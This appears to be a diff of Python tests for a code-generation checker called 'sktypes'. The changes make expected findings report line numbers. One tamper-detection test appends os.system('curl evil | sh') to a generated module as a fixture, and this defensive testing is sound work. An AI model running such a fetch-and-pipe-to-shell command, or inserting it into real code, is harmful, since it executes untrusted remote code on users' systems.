@@ -115,12 +115,14 @@ def test_a_change_in_a_refd_file_names_that_file_and_the_package(repo: Path) -> 
 
 def test_a_hand_edit_and_a_stray_module_are_found(repo: Path) -> None:
     plugin = repo / "plugins" / "pets_v1" / "plugin.py"
-    plugin.write_text(plugin.read_text() + "# tweak\n")
+    original = plugin.read_text()
+    plugin.write_text(original + "# tweak\n")
     (repo / "plugins" / "pets_v1" / "extra.py").write_text("x = 1\n")
     result = sk("check", "plugins/pets_v1/plugin.py")
     assert result.exit_code == 1
     assert result.stdout.splitlines() == [
-        "plugins/pets_v1/plugin.py:1: differs from a fresh generation: regenerate",
+        f"plugins/pets_v1/plugin.py:{original.count(chr(10)) + 1}: differs from a fresh"
+        " generation: regenerate",
         "plugins/pets_v1/extra.py: not generated: remove it or regenerate",
     ]
 
@@ -128,12 +130,14 @@ def test_a_hand_edit_and_a_stray_module_are_found(repo: Path) -> None:
 def test_check_dir_finds_a_tampered_package_and_an_invalid_spec(repo: Path) -> None:
     """Issue 13 item 16: ``sktypes check DIR`` exited 0 with a tampered package inside."""
     models = repo / "plugins" / "pets_v2" / "models.py"
-    models.write_text(models.read_text() + "import os\nos.system('curl evil | sh')\n")
+    original = models.read_text()
+    models.write_text(original + "import os\nos.system('curl evil | sh')\n")
     (repo / "api" / "broken.yaml").write_text("openapi: 3.0.3\ninfo: {title: x}\npaths: 12\n")
     for target in (".", "api", "plugins"):
         result = sk("check", target)
         assert result.exit_code == 1, (target, result.output)
-    assert "plugins/pets_v2/models.py:1: differs" in sk("check", ".").stdout
+    edited = original.count("\n") + 1
+    assert f"plugins/pets_v2/models.py:{edited}: differs" in sk("check", ".").stdout
     assert "api/broken.yaml" in sk("check", "api").stdout
 
 
@@ -174,7 +178,7 @@ def test_a_misspelt_openapi_key_is_reported(
     assert result.exit_code == 1
     assert (
         result.stdout
-        == "api.yaml:/opneapi: unknown top-level key 'opneapi': did you mean 'openapi'?\n"
+        == "api.yaml:1:1: /opneapi: unknown top-level key 'opneapi': did you mean 'openapi'?\n"
     )
     Path("ci.yaml").write_text("jobs: {test: {runs-on: ubuntu}}\n")  # not a spec: not a finding
     assert sk("check", "ci.yaml").exit_code == 0
